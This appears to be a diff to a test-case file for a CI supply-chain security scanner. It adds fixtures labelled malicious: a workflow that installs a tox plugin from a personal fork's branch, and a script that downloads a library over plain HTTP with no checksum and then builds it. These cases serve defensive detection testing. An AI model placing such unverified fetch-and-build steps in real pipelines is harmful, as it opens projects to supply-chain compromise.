@@ -200,6 +200,20 @@ export const CASES: Case[] = [
     also: ['meta/governance-edit']
   },
   {
+    name: 'CI installs a plugin from the branch of a personal fork instead of PyPI',
+    label: 'malicious',
+    base: { [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pip install tox tox-gh-actions && tox\n` },
+    head: { [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: uv tool install tox --with=git+https://github.com/octo-helper/tox-gh-actions@fix-ci && tox\n` },
+    expect: ['deps/direct-url'],
+    also: ['meta/governance-edit']
+  },
+  {
+    name: 'CI script builds a library it fetched over plain HTTP, with no checksum',
+    label: 'malicious',
+    head: { 'ci/install_lib.sh': '#!/bin/bash\nset -e\nwget -q http://downloads.octo-mirror.net/libfoo/libfoo-$VERSION.tar.bz2\ntar xfj libfoo-$VERSION.tar.bz2\ncd libfoo-$VERSION && ./configure && make install\n' },
+    expect: ['code/plain-http-download']
+  },
+  {
     name: 'Shai-Hulud: npm preinstall script beside a large obfuscated script',
     label: 'malicious',
     base: { 'js/package.json': '{\n  "name": "pkg-labextension",\n  "version": "1.0.0",\n  "scripts": {\n    "build": "tsc"\n  }\n}\n' },
